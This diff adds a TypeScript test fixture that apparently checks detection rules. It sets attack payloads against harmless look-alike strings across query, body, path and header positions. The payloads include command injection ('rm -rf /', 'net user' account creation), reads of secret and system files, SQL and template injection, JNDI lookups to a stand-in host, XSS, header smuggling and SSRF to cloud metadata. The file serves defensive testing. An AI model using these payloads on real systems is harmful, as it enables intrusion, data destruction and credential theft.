@@ -1,0 +1,111 @@
+import type { RequestVariant } from '../request-variants/request-variant.ts'
+import { type AttackSort, inJson, inQuery } from './body-attack.ts'
+
+const inPath = (value: string): RequestVariant => ({
+  name: `path ${value}`,
+  target: () => `/items/${encodeURIComponent(value)}`,
+  isOrdinary: true,
+})
+const inHeader = (name: string, value: string): RequestVariant => ({
+  name: `${name}: ${value}`,
+  headers: [name, value],
+  isOrdinary: true,
+})
+
+const inArguments = (value: string) => [inQuery(value), inJson(value)]
+const everywhere = (value: string) => [
+  ...inArguments(value),
+  inPath(value),
+  inHeader('User-Agent', value),
+  inHeader('X-Own', value),
+]
+
+/** What rules of ours find of single values such as lists of payloads have, and what the rules about arguments find in paths and headers. */
+export const inPayloads: readonly AttackSort[] = [
+  {
+    sort: 'commands alone, with arguments, or made by a shell',
+    attacks: [
+      ...['|id', ';ls;', '10.0.0.1;pwd', "x')|id", '; ifconfig #'].flatMap(everywhere),
+      ...[
+        '\n/usr/bin/id',
+        'powershell -enc aQBkAA==',
+        'net user eve Secret1 /add',
+        'rm -rf /',
+        'sleep 7',
+      ].flatMap(inArguments),
+      ...['; getent passwd eve', '|busybox id', '&& mkfifo /tmp/q'].flatMap(everywhere),
+      ...['/???/l? /e??/p?sswd', 'i$@d', "w'h'o'a'mi", '$0<<<ls', 'x=i;y=d;$x$y'].flatMap(inArguments),
+    ],
+    ordinary: ['AT&T', 'A & W', 'a|date', 'name;id;email', '/src/*/index.ts', "rock 'n' roll"].map(inJson),
+  },
+  {
+    sort: 'names of files, and ways to folders above',
+    attacks: [
+      ...['/etc/protocols', 'file:///proc/7/environ', '/var/spool/cron/crontabs/root', '/run/secrets/token'],
+      ...['C:\\Windows\\Panther\\setup.log', '\\\\10.0.0.1\\c$\\boot.ini', 'WEB-INF/web.xml', '.git/config'],
+      ...['..././..././a', '.../.../.../a', '..\uff0f..\uff0fa'],
+    ].flatMap(inArguments),
+    ordinary: [
+      'C:\\Users\\ann\\letter.docx',
+      'docs/etc/readme.md',
+      '/account/orders',
+      'and so on .../ later',
+      '/etc',
+    ].map(inJson),
+  },
+  {
+    sort: 'pieces of statements, and scripts of databases',
+    attacks: [
+      ...['or 3=3--', "' or (exists)", 'order by 9--', '"; drop table a', "'; return true; var z='"].flatMap(
+        everywhere,
+      ),
+      ...[
+        '/*!50000union*/ x',
+        "x' || 7==7",
+        'db.users.find({})',
+        '$where: 1',
+        '{$gt: 1}',
+        "'] | //user/* | x['",
+      ].flatMap(inArguments),
+    ],
+    ordinary: ['order by phone', 'and then 3 more', '"--option" is a flag', 'this.items.length'].map(inJson),
+  },
+  {
+    sort: 'templates, lookups and scripts',
+    attacks: [
+      ...[
+        '{{self}}',
+        '{% debug %}',
+        '[[8*8]]',
+        `\${\${::-j}ndi:ldap://e.example/a}`,
+        '<esi:vars>$(X)</esi:vars>',
+      ].flatMap(everywhere),
+      inHeader('Accept', `\${jndi:ldap://e.example/a}`),
+      inHeader('X-Own', '<script>alert(1)</script>'),
+      inPath("1' union select 1,2--"),
+      ...['alert.call(null,1)', '-prompt(1)-', "[].constructor('x')"].flatMap(inArguments),
+    ],
+    ordinary: [
+      ...['{{name}}', '{{ selfie }}', 'alert the team (today)', '[[Main page]]'].map(inJson),
+      ...['Foo_(bar)', "O'Brien", 'C# in a nutshell', 'Müller & Söhne', 'a;b'].map(inPath),
+      inHeader('X-Own', 'it\'s; {"a": 1}'),
+    ],
+  },
+  {
+    sort: 'headers behind the end of a line, and addresses of other hosts',
+    attacks: [
+      ...['a@b.example\nBcc: c@d.example', 'x\r\nSet-Cookie: a=b', 'x\u560a\u560dLocation: //e.example'],
+      ...['/\\e.example', '////e.example/', 'https:/e.example', '//e.example/%2f..', 'http://x.oast.fun/'],
+      ...['unix:/var/run/docker.sock', 'ldap://localhost/x', '//169.254.169.254/latest'],
+    ].flatMap(inArguments),
+    ordinary: [
+      ...[
+        'Hello,\nTo: be or not to be',
+        'Dear Ann,\nSubject: holiday',
+        '//cdn.example.org/a.js',
+        'https://example.org/index.php',
+      ],
+      'http://localhost:3000/callback',
+    ].map(inJson),
+  },
+]
